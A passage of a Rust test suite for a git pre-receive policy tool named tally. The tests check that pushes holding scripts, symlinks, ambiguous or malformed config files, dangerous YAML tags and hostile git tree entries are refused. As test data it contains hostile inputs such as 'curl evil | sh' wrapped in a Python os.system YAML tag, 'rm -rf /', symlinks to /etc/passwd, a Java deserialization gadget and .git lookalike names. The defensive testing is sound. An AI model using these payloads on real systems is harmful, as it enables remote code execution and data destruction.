    push.line_with(&["not a fast-forward"]);
    push.line_with(&[short(&root), "new root commit on an existing branch"]);
}

#[test]
fn refuses_push_to_the_ledger_ref() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    // Forced, so that the client does not stop it first: the ref already exists.
    let push = work.push(&["origin", "+HEAD:refs/tally/ledger"]);
    push.assert_refused();
    // tally itself publishes the ledger there (the refusal is recorded), never the pushed commit.
    assert_ne!(
        server.rev("refs/tally/ledger").as_deref(),
        Some(base.as_str())
    );
    assert_eq!(server.branch("main").as_deref(), Some(base.as_str()));
    push.line_with(&[
        "refs/tally/ledger is reserved for tally's ledger",
        "refs/tally/ is written only by tally on the server",
    ]);
}

// =============================================================================================
// Refused: files

#[test]
fn refuses_shell_script() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("deploy")
        .file("scripts/deploy.sh", "#!/bin/sh\nkubectl apply -f .\n")
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        "scripts/deploy.sh: file type not allowed by the policy",
        "git rm --cached 'scripts/deploy.sh'",
    ]);
}

#[test]
fn refuses_executable_yaml() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work.commit("x").executable("run.yaml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        "run.yaml: file is executable (mode 100755)",
        "git update-index --chmod=-x 'run.yaml'",
    ]);
}

#[test]
fn refuses_executable_bit_added_to_an_existing_file() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("chmod")
        .executable("base.yaml", BASE_YAML)
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[short(&c), "base.yaml: file is executable"]);
}

#[test]
fn refuses_symlink() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("link")
        .symlink("etc.yaml", "/etc/passwd")
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        "etc.yaml: symbolic links are not allowed (mode 120000)",
        "git rm 'etc.yaml'",
    ]);
}

#[test]
fn refuses_submodule_gitlink() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work.commit("vendor").gitlink("vendor/lib", &base).create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        "vendor/lib: submodules are not allowed (mode 160000)",
        "git rm 'vendor/lib'",
    ]);
}

#[test]
fn refuses_file_over_the_policy_max_size() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    server.set_max_size(100);
    let c = work
        .commit("big")
        .file("big.yaml", format!("data: \"{}\"\n", "x".repeat(200)))
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        "big.yaml: file is 209 bytes, over the 100 byte limit",
        "split the file",
    ]);
}

#[test]
fn refuses_file_over_the_default_one_mib_limit() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("blob")
        .file("blob.txt", vec![b'a'; 1024 * 1024 + 1])
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        "blob.txt: file is 1048577 bytes, over the 1048576 byte limit",
    ]);
}

#[test]
fn refuses_path_with_control_characters_and_prints_it_as_plain_ascii() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("escape")
        .file("red\x1b[31m.yaml", "a: 1\n")
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        "red\\x1b[31m.yaml: path contains control characters",
        "git mv",
    ]);
    assert!(!push.stderr.contains('\x1b'), "{:?}", push.stderr);
}

/// A commit adding `path` with `contents` must be refused as invalid syntax.
fn refuses_invalid_file(path: &str, contents: &str) {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work.commit("bad").file(path, contents).create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        &format!("{path}: invalid"),
        "fix the syntax and amend the commit",
    ]);
}

#[test]
fn refuses_invalid_yaml() {
    refuses_invalid_file("apps/web.yaml", "metadata:\n  name: web\n  labels: [a, b\n");
}

#[test]
fn refuses_invalid_json() {
    refuses_invalid_file("config.json", "{\"replicas\": 2,}\n");
}

#[test]
fn refuses_invalid_toml() {
    refuses_invalid_file("config.toml", "[server\nport = 80\n");
}

#[test]
fn refuses_billion_laughs_yaml() {
    refuses_invalid_file("lol.yaml", BILLION_LAUGHS);
}

#[test]
fn refuses_invalid_yaml_whose_bytes_are_also_committed_as_text() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let bytes = "metadata:\n  labels: [a, b\n";
    // a.txt sorts before b.yaml, so the text file is judged first.
    let c = work
        .commit("same bytes twice")
        .file("a.txt", bytes)
        .file("b.yaml", bytes)
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[short(&c), "b.yaml: invalid"]);
}

#[test]
fn refuses_billion_laughs_yaml_smuggled_as_a_text_file_first() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    work.commit("notes")
        .file("notes.txt", BILLION_LAUGHS)
        .create();
    let c = work
        .commit("rename")
        .remove("notes.txt")
        .file("lol.yaml", BILLION_LAUGHS)
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[short(&c), "lol.yaml: invalid"]);
}

// ---- Declarative means unambiguous (issue 10): duplicate keys, language tags ---------------

/// Pushes one commit adding `path` with `contents` and asserts it is refused with exactly one
/// violation line holding every one of `parts`, the branch unmoved; returns that line.
fn refuses_one_file(path: &str, contents: &str, parts: &[&str]) -> String {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work.commit("ambiguous").file(path, contents).create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    assert_eq!(push.violations().len(), 1, "{}", push.stderr);
    let mut all = vec![short(&c)];
    all.extend_from_slice(parts);
    push.line_with(&all).to_owned()
}

#[test]
fn refuses_yaml_with_a_key_repeated_in_quotes() {
    let line = refuses_one_file(
        "apps/web.yaml",
        "metadata:\n  name: web\nspec:\n  replicas: 1\n  \"replicas\": 50\n",
        &[
            "apps/web.yaml: invalid YAML: line 5 column 3: duplicate key \"replicas\" (first at line 4)",
            "readers disagree on which value wins, keep only one",
        ],
    );
    assert!(
        line.ends_with("; fix: fix the syntax and amend the commit"),
        "{line}"
    );
}

#[test]
fn refuses_yaml_with_a_key_repeated_through_an_alias() {
    refuses_one_file(
        "apps/web.yaml",
        "names:\n  - &image image\ncontainer:\n  image: web:1.0\n  *image : evil:6.6\n",
        &["line 5 column 3: duplicate key *image (first at line 4)"],
    );
}

#[test]
fn refuses_yaml_with_two_merge_keys() {
    refuses_one_file(
        "compose.yaml",
        "x-a: &a {image: web}\nx-b: &b {image: evil}\nweb:\n  <<: *a\n  <<: *b\n",
        &[
            "line 5 column 3: second merge key << in one mapping (first at line 4)",
            "<<: [*a, *b]",
        ],
    );
}

#[test]
fn accepts_yaml_merge_key_overrides_and_same_keys_in_different_mappings() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    push_base(&work);
    let c = work
        .commit("defaults")
        .file(
            "values.yaml",
            "x-defaults: &defaults {replicas: 1, image: web}\n\
             api:\n  <<: *defaults\n  replicas: 3\nworker:\n  <<: *defaults\n  replicas: 2\n",
        )
        .create();
    work.push_main_ok();
    assert_eq!(server.branch("main").as_deref(), Some(c.as_str()));
}

#[test]
fn refuses_json_with_a_key_repeated_through_an_escape() {
    refuses_one_file(
        "config.json",
        "{\n  \"replicas\": 1,\n  \"replic\\u0061s\": 50\n}\n",
        &[
            "config.json: invalid JSON: line 3 column 3: duplicate key \"replicas\" (first at line 2)",
        ],
    );
}

#[test]
fn refuses_toml_with_a_key_repeated_in_quotes() {
    refuses_one_file(
        "config.toml",
        "replicas = 1\n\"replicas\" = 50\n",
        &["config.toml: invalid TOML: line 2"],
    );
}

#[test]
fn refuses_yaml_with_a_python_tag_naming_tag_and_fix() {
    refuses_one_file(
        "apps/job.yaml",
        "kind: Job\nspec: !!python/object/apply:os.system [\"curl evil | sh\"]\n",
        &[
            "apps/job.yaml: invalid YAML: line 2 column 7: yaml tag !!python/object/apply:os.system",
            "remove the tag, or ask an administrator to add \"tag:yaml.org,2002:python/object/apply:os.system\" to [syntax] allowed_yaml_tags",
        ],
    );
}

#[test]
fn refuses_yaml_with_a_python_tag_smuggled_through_a_tag_directive() {
    refuses_one_file(
        "apps/job.yaml",
        "%TAG !! tag:yaml.org,2002:python/\n---\nspec: !!object/apply:os.system [id]\n",
        &[
            "line 3 column 7: yaml tag !!object/apply:os.system (resolved: tag:yaml.org,2002:python/object/apply:os.system)",
        ],
    );
}

#[test]
fn refuses_yaml_with_ruby_and_java_tags() {
    refuses_one_file(
        "gem.yaml",
        "- !ruby/object:Gem::Installer\n  i: x\n",
        &["line 1 column 3: yaml tag !ruby/object:Gem::Installer is not allowed"],
    );
    refuses_one_file(
        "snake.yaml",
        "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n",
        &["yaml tag !!javax.script.ScriptEngineManager"],
    );
}

#[test]
fn custom_yaml_tag_is_refused_until_the_policy_lists_it() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("stack")
        .file(
            "stack.yaml",
            "Resources:\n  Bucket:\n    Type: AWS::S3::Bucket\nOutputs:\n  Name: {Value: !Ref Bucket}\n",
        )
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        "stack.yaml: invalid YAML: line 5 column 17: yaml tag !Ref is not allowed",
        "add \"!Ref\" to [syntax] allowed_yaml_tags",
    ]);
    // The tag an administrator lists passes, and only that one.
    server.edit_policy("allowed_yaml_tags = []", "allowed_yaml_tags = [\"!Ref\"]");
    work.push_main_ok();
    assert_eq!(server.branch("main").as_deref(), Some(c.as_str()));
    let d = work
        .commit("sub")
        .file("sub.yaml", "Name: !Sub '${AWS::StackName}-data'\n")
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&c));
    push.line_with(&[
        short(&d),
        "sub.yaml: invalid YAML: line 1 column 7: yaml tag !Sub is not allowed",
    ]);
}

#[test]
fn unusable_allowed_yaml_tag_refuses_every_push_and_names_the_entry() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    server.edit_policy(
        "allowed_yaml_tags = []",
        "allowed_yaml_tags = [\"!!python/object\"]",
    );
    work.commit("any").file("a.yaml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&["allowed_yaml_tags entry \"!!python/object\" uses the !! handle"]);
}

// =============================================================================================
// Refused: several problems at once, configuration errors, hook input

#[test]
fn reports_every_bad_commit_of_a_push() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c1 = work
        .commit("1")
        .file("one.yaml", "a: 1\n")
        .unsigned()
        .create();
    let c2 = work.commit("2").file("deploy.sh", "echo\n").create();
    let ok = work.commit("3").file("three.yaml", "a: 3\n").create();
    let c4 = work
        .commit("4")
        .file("four.json", "{\n")
        .by(&mallory())
        .create();
    let tip = work.commit("5").file("five.yaml", "a: 5\n").create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&["push refused: 4 problems on refs/heads/main"]);
    let violations = push.violations();
    assert_eq!(violations.len(), 4, "{}", push.stderr);
    assert!(violations[0].contains(short(&c1)) && violations[0].contains("not signed"));
    assert!(violations[1].contains(short(&c2)) && violations[1].contains("deploy.sh"));
    let c4_lines: Vec<&&str> = violations
        .iter()
        .filter(|l| l.contains(short(&c4)))
        .collect();
    assert_eq!(c4_lines.len(), 2, "{}", push.stderr);
    assert!(
        c4_lines
            .iter()
            .any(|l| l.contains(&keys().mallory.fingerprint))
    );
    assert!(c4_lines.iter().any(|l| l.contains("four.json: invalid")));
    assert!(!push.stderr.contains(short(&ok)), "{}", push.stderr);
    assert!(!push.stderr.contains(short(&tip)), "{}", push.stderr);
}

#[test]
fn marks_refusal_lines_for_gitlab() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("a")
        .file("a.yaml", "a: 1\n")
        .unsigned()
        .create();
    let push = work.push_with_env(&["origin", "main"], &[("GL_USERNAME", "alice")]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    let marked: Vec<&str> = push
        .stderr
        .lines()
        .filter(|l| l.starts_with("remote: GL-HOOK-ERR: tally: "))
        .collect();
    assert_eq!(marked.len(), 2, "{}", push.stderr);
    assert!(marked[1].contains(short(&c)) && marked[1].contains("commit is not signed"));
}

#[test]
fn refuses_push_when_the_policy_is_missing() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    std::fs::remove_file(server.policy_path()).unwrap();
    work.commit("a").file("a.yaml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        "cannot read policy",
        "tally/policy.toml",
        "run `tally init`",
    ]);
}

#[test]
fn refuses_push_when_the_policy_is_invalid() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    std::fs::write(
        server.policy_path(),
        "[branches]\nprotected = [\"main\"]\n[signatures]\nallowed_signers = 7\n",
    )
    .unwrap();
    work.commit("a").file("a.yaml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&["policy", "tally/policy.toml", "is invalid", "line 4"]);
}

#[test]
fn refuses_push_when_allowed_signers_is_missing() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    std::fs::remove_file(server.tally_dir().join("allowed_signers")).unwrap();
    work.commit("a").file("a.yaml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&["tally/allowed_signers"]);
}

#[test]
fn hook_refuses_malformed_input() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let zero = "0".repeat(40);
    let one = "1".repeat(40);
    for (input, line) in [
        ("garbage\n".to_owned(), 1),
        (
            format!("{zero} {one} refs/heads/main\n{one} xyz refs/heads/main\n"),
            2,
        ),
        (format!("{zero} {one} main\n"), 1),
    ] {
        let out = server.run_pre_receive(input.as_bytes());
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{input:?}: {stderr}");
        assert!(
            stderr.contains(&format!("malformed hook input line {line}")),
            "{input:?}: {stderr}"
        );
    }
}

#[test]
fn refuses_unsigned_push_when_the_repository_sets_core_hooks_path() {
    let env = TestEnv::new();
    let path = env.bare_repo("server");
    std::fs::create_dir(path.join("site-hooks")).unwrap();
    run_ok(
        env.git(&path)
            .args(["config", "core.hooksPath", "site-hooks"]),
    );
    let signers = env.write("allowed_signers", &alice_and_bob().text());
    let init = env.tally_init([
        path.as_os_str(),
        "--allowed-signers".as_ref(),
        signers.as_os_str(),
    ]);
    if init.status.code() == Some(2) {
        // Refusing to set up a repository whose hooks git would not run is fine too, if it
        // says why.
        let err = String::from_utf8_lossy(&init.stderr);
        assert!(err.contains("core.hooksPath"), "{err}");
        return;
    }
    assert_eq!(init.status.code(), Some(0));
    let server = env.server_at(path);
    let work = env.clone_as(&server, "work", &alice());
    work.commit("unsigned")
        .file("deploy.sh", "rm -rf /\n")
        .unsigned()
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", None);
}

/// Issue 10, class 1: an atomic push with enough long ref names puts the protected ref past
/// the input cap. The hooks must refuse the whole input, never judge a prefix of it. Both
/// hooks get an input of many unprotected refs followed by a move of `main` that no rule
/// would let through (an unsigned executable; no verdict for `prepared`).
#[test]
fn hook_input_over_the_cap_is_refused_not_cut_short() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let bad = work
        .commit("smuggled")
        .file("deploy.sh", "curl evil | sh\n")
        .unsigned()
        .create();
    // Lines of exactly 4096 bytes fill the 64 MiB cap to the byte, so a reader that stopped
    // at the cap would see only whole lines of unprotected refs and pass them.
    let prefix = format!("{} {base} ", "0".repeat(40));
    let mut input = String::with_capacity(64 * 1024 * 1024 + 4096);
    for i in 0..(64 * 1024 * 1024 / 4096) {
        let name = format!("refs/heads/filler/{i:08}/");
        let pad = 4096 - prefix.len() - name.len() - 1;
        input.push_str(&prefix);
        input.push_str(&name);
        input.push_str(&"x".repeat(pad));
        input.push('\n');
    }
    assert_eq!(input.len(), 64 * 1024 * 1024);
    input.push_str(&format!("{base} {bad} refs/heads/main\n"));
    for (hook, out) in [
        ("pre-receive", server.run_pre_receive(input.as_bytes())),
        (
            "prepared",
            server.run_reference_transaction("prepared", input.as_bytes()),
        ),
    ] {
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{hook}: {stderr}");
        assert!(
            stderr.contains("hook input is longer than 67108864 bytes"),
            "{hook}: {stderr}"
        );
    }
    assert_eq!(server.branch("main").as_deref(), Some(base.as_str()));
}

/// Issue 10, class 6: a refused push by someone with no key, with hundreds of problems (90 KB of reasons), is
/// recorded (every refused push is), in one entry of a few KiB that counts the problems and
/// commits to the full list by its digest.
#[test]
fn a_refusal_with_hundreds_of_problems_is_recorded_in_a_few_kib() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let long = "d".repeat(200);
    let mut commit = work.commit("junk").unsigned();
    for i in 0..300 {
        commit = commit.file(&format!("{long}/{i:05}.sh"), "echo\n");
    }
    commit.create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    let rejected = server.log(&["--kind", "rejected"]);
    assert_eq!(rejected.len(), 1, "{rejected:?}");
    let reasons = rejected[0]["reasons"].as_array().unwrap();
    assert!(reasons.len() <= 17, "{}", reasons.len());
    let last = reasons.last().unwrap().as_str().unwrap();
    assert!(
        last.starts_with("301 reasons in all, cut to fit the ledger; sha256 of the full list: "),
        "{last}"
    );
    let out = std::process::Command::new("sqlite3")
        .arg(server.tally_dir().join("ledger.sqlite"))
        .arg("SELECT max(length(bytes)) FROM entries")
        .output()
        .unwrap();
    let largest: usize = String::from_utf8_lossy(&out.stdout).trim().parse().unwrap();
    assert!(largest < 6 * 1024, "largest entry is {largest} bytes");
    server.assert_ledger_intact();
}

// =============================================================================================
// Tree entries git itself would refuse with receive.fsckObjects on (issue 10)

/// A tree entry as written: mode, name, object id.
type RawEntry = (String, Vec<u8>, String);

fn entry(mode: &str, name: impl AsRef<[u8]>, id: &str) -> RawEntry {
    (mode.to_owned(), name.as_ref().to_vec(), id.to_owned())
}

/// Sorts entries in git's tree order: by name, a tree's name as if it ended in `/`.
fn git_order(mut entries: Vec<RawEntry>) -> Vec<RawEntry> {
    let key = |e: &RawEntry| {
        let mut k = e.1.clone();
        if e.0 == "40000" {
            k.push(b'/');
        }
        k
    };
    entries.sort_by_key(key);
    entries
}

/// A server with `receive.fsckObjects` explicitly off, a clone as alice with `base.yaml`
/// pushed, and a signed commit on top whose root tree is `base.yaml` plus what `build` returns
/// (written as given, unsorted unless `build` sorts). Returns the refused push and the commit.
fn push_raw_tree(build: impl FnOnce(&Work<'_>) -> Vec<RawEntry>, sort: bool) -> (Push, String) {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    run_ok(
        server
            .git()
            .args(["config", "receive.fsckObjects", "false"]),
    );
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let base_yaml = work.git_ok(&["rev-parse", "HEAD:base.yaml"]);
    let mut entries = build(&work);
    entries.push(entry("100644", "base.yaml", &base_yaml));
    if sort {
        entries = git_order(entries);
    }
    let raw: Vec<(&str, &[u8], &str)> = entries
        .iter()
        .map(|(m, n, i)| (m.as_str(), n.as_slice(), i.as_str()))
        .collect();
    let tree = work.raw_tree(&raw);
    let commit = work.commit_tree(&tree, "hostile tree");
    let push = work.push(&["origin", "HEAD:refs/heads/main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    (push, commit)
}

/// A tree holding one valid `a.yaml`.
fn yaml_dir(work: &Work<'_>) -> String {
    let blob = work.hash_literally("blob", b"a: 1\n");
    work.raw_tree(&[("100644", b"a.yaml", &blob)])
}

#[test]
fn refuses_dotgit_tree_entries_in_hfs_and_ntfs_spellings_with_fsck_objects_off() {
    let names: [&str; 6] = [
        ".GIT",
        ".g\u{200c}it",
        "git~1",
        ".git::$INDEX_ALLOCATION",
        ".git. ",
        "x\\.git",
    ];
    let (push, c) = push_raw_tree(
        |work| {
            let dir = yaml_dir(work);
            names.iter().map(|n| entry("40000", n, &dir)).collect()
        },
        true,
    );
    for name in names {
        let printable = name.as_bytes().escape_ascii().to_string();
        push.line_with(&[
            short(&c),
            &format!("{printable}: tree entry is named .git or a name macOS (HFS+) or Windows (NTFS) reads as .git"),
            "git mv",
        ]);
    }
}

#[test]
fn refuses_dot_dotdot_and_slash_in_tree_entry_names() {
    let (push, c) = push_raw_tree(
        |work| {
            let dir = yaml_dir(work);
            let blob = work.hash_literally("blob", b"a: 1\n");
            vec![
                entry("40000", ".", &dir),
                entry("40000", "..", &dir),
                entry("100644", "etc/a.yaml", &blob),
            ]
        },
        true,
    );
    push.line_with(&[short(&c), " .: tree entry is named '.';"]);
    push.line_with(&[
        short(&c),
        " ..: tree entry is named '..', which would leave its directory",
    ]);
    push.line_with(&[
        short(&c),
        "etc/a.yaml: tree entry name contains '/'",
        "git never writes such a tree",
    ]);
}

#[test]
fn refuses_a_file_and_a_directory_of_the_same_name_that_are_not_neighbours() {
    let (push, c) = push_raw_tree(
        |work| {
            let dir = yaml_dir(work);
            let blob = work.hash_literally("blob", b"a: 1\n");
            vec![
                entry("100644", "app", &blob),
                entry("100644", "app.yaml", &blob),
                entry("40000", "app", &dir),
            ]
        },
        false,
    );
    push.line_with(&[short(&c), "app: tree holds two entries of this name"]);
}

#[test]
fn refuses_unsorted_tree() {
    let (push, c) = push_raw_tree(
        |work| {
            let blob = work.hash_literally("blob", b"a: 1\n");
            vec![
                entry("100644", "z.yaml", &blob),
                entry("100644", "a.yaml", &blob),
            ]
        },
        false,
    );
    push.line_with(&[short(&c), "a.yaml: tree entries are not in git's order"]);
}

#[test]
fn refuses_zero_padded_and_non_canonical_modes() {
    let (push, c) = push_raw_tree(
        |work| {
            let blob = work.hash_literally("blob", b"a: 1\n");
            vec![
                entry("0100644", "a.yaml", &blob),
                entry("100664", "b.yaml", &blob),
            ]
        },
        true,
    );
    push.line_with(&[short(&c), "a.yaml: tree entry mode 0100644 is zero-padded"]);
    push.line_with(&[
        short(&c),
        "b.yaml: tree entry mode 100664 is not one git writes",
    ]);
}

#[test]
fn refuses_symlinked_gitmodules_and_gitattributes() {
    let (push, c) = push_raw_tree(
        |work| {
            let target = work.hash_literally("blob", b"/etc/passwd");
            vec![
                entry("120000", ".gitattributes", &target),
                entry("120000", ".GITMODULES", &target),
            ]
        },
        true,
    );
    push.line_with(&[
        short(&c),
        ".gitattributes: .gitattributes is a symbolic link; git reads it from the work tree",
    ]);
    push.line_with(&[
        short(&c),
        ".GITMODULES: .gitmodules is a symbolic link",
        "replace the link with a regular file",
    ]);
}

#[test]
fn refuses_file_entry_that_points_to_a_tree() {
    let (push, c) = push_raw_tree(
        |work| vec![entry("100644", "a.yaml", &yaml_dir(work))],
        true,
    );
    push.line_with(&[
        short(&c),
        "a.yaml: tree entry mode says blob but the object is a tree",
    ]);
}

/// The adversary's view: git's own fsck flags each of these trees with the message id tally's
/// rule is named after, so tally enforces what git would with receive.fsckObjects on.
#[test]
fn git_fsck_flags_the_trees_tally_refuses() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let blob = work.hash_literally("blob", b"a: 1\n");
    let dir = work.raw_tree(&[("100644", b"a.yaml", &blob)]);
    type Entries<'a> = Vec<(&'a str, &'a [u8], &'a str)>;
    let cases: Vec<(Entries<'_>, &str)> = vec![
        (vec![("40000", b".GIT", &dir)], "hasDotgit"),
        (
            vec![("40000", ".g\u{200c}it".as_bytes(), &dir)],
            "hasDotgit",
        ),
        (vec![("40000", b"git~1", &dir)], "hasDotgit"),
        (vec![("40000", b"x\\.git", &dir)], "hasDotgit"),
        (vec![("40000", b"..", &dir)], "hasDotdot"),
        (vec![("40000", b".", &dir)], "hasDot"),
        (vec![("100644", b"a/b", &blob)], "fullPathname"),
        (vec![("0100644", b"a", &blob)], "zeroPaddedFilemode"),
        (vec![("100600", b"a", &blob)], "badFilemode"),
        (
            vec![("100644", b"b", &blob), ("100644", b"a", &blob)],
            "treeNotSorted",
        ),
        (
            vec![
                ("100644", b"app", &blob),
                ("100644", b"app.yaml", &blob),
                ("40000", b"app", &dir),
            ],
            "duplicateEntries",
        ),
        (vec![("120000", b".gitmodules", &blob)], "gitmodulesSymlink"),
        (
            vec![("120000", b".gitattributes", &blob)],
            "gitattributesSymlink",
        ),
    ];
    let trees: Vec<(String, &str)> = cases
        .iter()
        .map(|(entries, id)| (work.raw_tree(entries), *id))
        .collect();
    // --strict: badFilemode (100600) is only reported then; tally always refuses it.
    let out = work
        .git()
        .args(["fsck", "--strict", "--no-dangling"])
        .output()
        .unwrap();
    let report = String::from_utf8_lossy(&out.stderr);
    for (tree, msg_id) in trees {
        assert!(
            report.contains(&format!("{tree}: {msg_id}:")),
            "git fsck does not report {msg_id} for {tree}:\n{report}"
        );
    }
}

// =============================================================================================
// .gitattributes that would make a checkout differ from the signed tree (issue 10)

#[test]
fn refuses_gitattributes_lfs_filter_whose_pointers_are_valid_yaml() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("lfs")
        .file(
            ".gitattributes",
            "*.yaml filter=lfs diff=lfs merge=lfs -text\n",
        )
        .file(
            "big.yaml",
            "version https://git-lfs.github.com/spec/v1\n\
             oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\n\
             size 12345\n",
        )
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    let line = push.line_with(&[
        short(&c),
        ".gitattributes: line 1: \"*.yaml filter=lfs diff=lfs merge=lfs -text\" sets filter=lfs, which makes git check out bytes other than the signed ones",
        "remove line 1 from '.gitattributes'",
    ]);
    assert!(!line.contains("big.yaml"), "{line}");
    assert_eq!(push.violations().len(), 1, "{}", push.stderr);
}

#[test]
fn refuses_nested_gitattributes_ident_and_eol_which_git_applies_at_checkout() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("conversions")
        .file(
            "apps/.gitattributes",
            "# conversions\n*.yaml ident\n*.json eol=crlf -diff\n",
        )
        .file("apps/a.yaml", "id: $Id$\n")
        .create();
    // What git does with the same tree: a fresh checkout is not the signed blob.
    let clone = env.root().join("plain-clone");
    run_ok(
        env.git(env.root())
